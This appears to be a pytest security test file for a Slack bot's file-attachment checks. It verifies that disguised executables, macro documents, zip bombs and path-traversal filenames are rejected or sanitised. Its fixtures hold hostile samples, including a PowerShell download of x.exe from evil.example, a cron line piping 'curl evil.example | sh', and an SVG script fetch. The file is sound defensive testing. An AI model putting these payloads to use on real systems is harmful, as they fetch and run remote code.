"""Issue 11 item 8: disguised executables. Attachments are judged by their bytes (libmagic) and by what their
container holds (OLE2 streams with olefile, Office Open XML entries), never by their name; names are cleaned
to a safe basename when stored and when handed back."""

from __future__ import annotations

import json

import aiohttp
import pytest

from bot.models import ClientCommunication, Role
from bot.services import api_tokens, communications
from tests import factories
from tests.conftest import MANAGER, RECRUITER
from tests.security import hostile_files

FORM = {"type": "meeting", "subject": "Quarterly review", "notes": "Went well", "when": 1772352000}

# (name, bytes, what the refusal says). Each of these was accepted on main.
DISGUISED = {
    "msi-as-doc": ("offer.doc", hostile_files.msi(), "Windows installer (MSI)"),
    "msi-as-txt": ("notes.txt", hostile_files.msi(), "Windows installer (MSI)"),
    "word-with-macros": ("offer.doc", hostile_files.word_doc(macros=True), "contains macros"),
    "bat": ("run.bat", b"@echo off\r\npowershell -enc SQBFAFgA\r\n", "(.bat)"),
    "bat-as-txt": ("notes.txt", b"@echo off\r\npowershell -enc SQBFAFgA\r\n", "script or web page"),
    "ps1": (
        "update.ps1",
        b"Invoke-WebRequest http://evil.example/x.exe -OutFile $env:TEMP\\x.exe\n",
        "(.ps1)",
    ),
    "hta": (
        "invoice.hta",
        b"<html><hta:application/><script>new ActiveXObject('WScript.Shell')</script>",
        "(.hta)",
    ),
    "hta-as-txt": ("invoice.txt", b"<html><hta:application/><script>alert(1)</script></html>", "web page"),
    "svg-as-txt": (
        "logo.txt",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>',
        "web page",
    ),
    "docx-with-exe": (
        "contract.docx",
        hostile_files.docx({"payload/evil.exe": b"MZ\x90\x00" + b"\x00" * 200}),
        "payload∕evil.exe",
    ),
    "docx-with-exe-as-media": (
        "contract.docx",
        hostile_files.docx({"word/media/image1.exe": b"MZ\x90\x00" + b"\x00" * 200}),
        "image1.exe",
    ),
    "docm-as-docx": (
        "contract.docx",
        hostile_files.docx({"word/vbaProject.bin": b"\xcc\x61" + b"\x00" * 100}, macro_types=True),
        "contains macros",
    ),
    "docx-with-ole-package": (
        "contract.docx",
        hostile_files.docx({"word/embeddings/oleObject1.bin": hostile_files.msi()}),
        "oleObject1.bin",
    ),
    "docx-zip-bomb": ("contract.docx", hostile_files.zip_bomb_docx(), "zip bomb"),
}


async def _acme(rt):
    return await factories.acme_with_team(rt.db)


async def _stored(rt) -> list[ClientCommunication]:
    return await factories.stored_communications(rt.db)


def _stored_files(rt) -> list:
    root = rt.storage.root / "attachments"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


async def _log_with_file(slack, fake, acme, name: str, content: bytes, mimetype: str = "text/plain") -> dict:
    """The log modal submitted like Slack does, with one file from the file_input."""
    await slack.command(f"log {acme.client_code}", user_id=RECRUITER)
    view = await fake.filled(await fake.wait_for("views.open"))
    uploaded = fake.add_file(name, content, mimetype, name.rpartition(".")[2] or "binary")
    fake.calls.clear()  # from here on: what the submission brings (the form itself was a views.update too)
    reply = await slack.view_submission(
        view, slack.form_values(view, FORM | {"attachments": [uploaded]}), user_id=RECRUITER
    )
    assert reply.json["response_action"] == "update"  # progress, then the verdict
    done = await fake.wait_for(
        "views.update", lambda c: c.params["view"]["callback_id"] in ("comm_log_form", "comm_logged")
    )
    return done.params["view"]


@pytest.mark.parametrize("case", list(DISGUISED))
async def test_disguised_executable_is_refused_in_the_log_modal(slack, fake, rt, case: str) -> None:
    name, content, reason = DISGUISED[case]
    acme = await _acme(rt)
    view = await _log_with_file(slack, fake, acme, name, content)
    shown = json.dumps(view, ensure_ascii=False)
    assert view["callback_id"] == "comm_log_form", f"{case} was accepted"
    assert reason in shown and "Nothing was saved" in shown
    assert await _stored(rt) == [] and _stored_files(rt) == []


@pytest.fixture
async def http():
    async with aiohttp.ClientSession() as session:
        yield session


async def _api_record(rt, http, app_url: str, acme) -> tuple[str, dict[str, str]]:
    async with rt.db.session() as session:
        token, _ = await api_tokens.create(session, name="ATS", role=Role.MANAGER)
    headers = {"Authorization": f"Bearer {token}"}
    body = {
        "communication_type": "meeting",
        "communication_date": "2026-03-02T10:00:00Z",
        "subject": "Kick-off",
    }
    url = f"{app_url}/api/clients/{acme.client_code}/communications"
    async with http.post(url, json=body, headers=headers) as response:
        assert response.status == 201
        record = await response.json()
    return f"{url}/{record['id']}/attachments", headers


async def _upload(http, url: str, headers: dict[str, str], name: str, content: bytes) -> tuple[int, dict]:
    """A multipart body written by hand, as a hostile client would (aiohttp's own FormData would
    percent-encode the filename)."""
    boundary = "hostile-boundary-7MA4YWxkTrZu0gW"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    headers = headers | {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    async with http.post(url, data=body, headers=headers) as response:
        return response.status, await response.json()


@pytest.mark.parametrize("case", list(DISGUISED))
async def test_disguised_executable_is_refused_by_the_api(rt, app_url, http, case: str) -> None:
    name, content, reason = DISGUISED[case]
    acme = await _acme(rt)
    url, headers = await _api_record(rt, http, app_url, acme)
    status, body = await _upload(http, url, headers, name, content)
    assert status == 422, f"{case} was accepted: {body}"
    assert reason in body["error"]["fields"]["attachments"]
    [record] = await _stored(rt)
    assert not record.attachments and _stored_files(rt) == []


@pytest.mark.parametrize(
    ("name", "content", "mime", "kept_as"),
    [
        ("offer.doc", hostile_files.word_doc(), "application/msword", "offer.doc"),
        (
            "contract.docx",
            hostile_files.docx({"word/embeddings/Sheet1.xlsx": hostile_files.docx()}),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "contract.docx",
        ),
        ("notes", b"Call went well, 3 roles to fill.\n", "text/plain", "notes.txt"),
        ("minutes.pdf", b"Call went well, 3 roles to fill.\n", "text/plain", "minutes.pdf.txt"),
    ],
)
async def test_genuine_documents_still_pass_under_an_honest_name(
    rt, app_url, http, name, content, mime, kept_as
) -> None:
    acme = await _acme(rt)
    url, headers = await _api_record(rt, http, app_url, acme)
    status, body = await _upload(http, url, headers, name, content)
    assert status == 201, body
    [meta] = body["attachments"]
    assert (meta["mime"], meta["name"], meta["original_name"]) == (mime, kept_as, name)


async def test_path_in_an_original_name_is_never_kept_nor_handed_back(slack, fake, rt, app_url, http) -> None:
    """`../../../../etc/cron.d/x` arrives as a multipart filename; it is stored and handed back (files upload
    v2 into the requester's DM) as a plain basename with the extension its bytes deserve."""
    acme = await _acme(rt)
    url, headers = await _api_record(rt, http, app_url, acme)
    hostile = "../../../../etc/cron.d/x"
    status, body = await _upload(http, url, headers, hostile, b"* * * * * root curl evil.example | sh\n")
    assert status == 201, body
    [meta] = body["attachments"]
    assert meta["name"] == "x.txt" and meta["original_name"] == hostile
    [record] = await _stored(rt)
    assert record.attachments[0]["name"] == "x.txt"

    # A record stored before names were cleaned is handed back cleaned too.
    async with rt.db.session() as session:
        manager = await factories.user(session, MANAGER, Role.MANAGER)
        stored = await communications.save_attachments(
            rt.storage, [communications.IncomingFile("old.pdf", b"%PDF-1.4\n%%EOF\n")]
        )
        stored[0]["name"] = "..\\..\\Users\\Public\\Start Menu\\Programs\\Startup\\run\u202e\x07.pdf.lnk"
        await communications.log(
            session,
            actor=manager,
            client_id=acme.id,
            attachments=stored,
            data=communications.parse_communication(
                {"communication_type": "email", "communication_date": "2026-03-01T10:00", "subject": "Old"}
            ),
        )
    await slack.command(f"history {acme.client_code}", user_id=MANAGER)
    timeline = await fake.wait_for_response(slack.last_response_url)
    menus = [b["accessory"] for b in timeline["blocks"] if b.get("accessory", {}).get("type") == "overflow"]
    for done, menu in enumerate(menus, start=1):
        download = next(o for o in menu["options"] if o["value"].startswith("dl:"))
        await slack.block_action(
            "comm_entry_menu", user_id=MANAGER, selected_option=download, message=timeline
        )
        await fake.wait_for(
            "files.completeUploadExternal", lambda c, n=done: len(fake.calls_to(c.method)) >= n
        )
    names = sorted(u.filename for u in fake.uploaded_files())
    assert names == ["run.pdf.lnk.pdf", "x.txt"], names
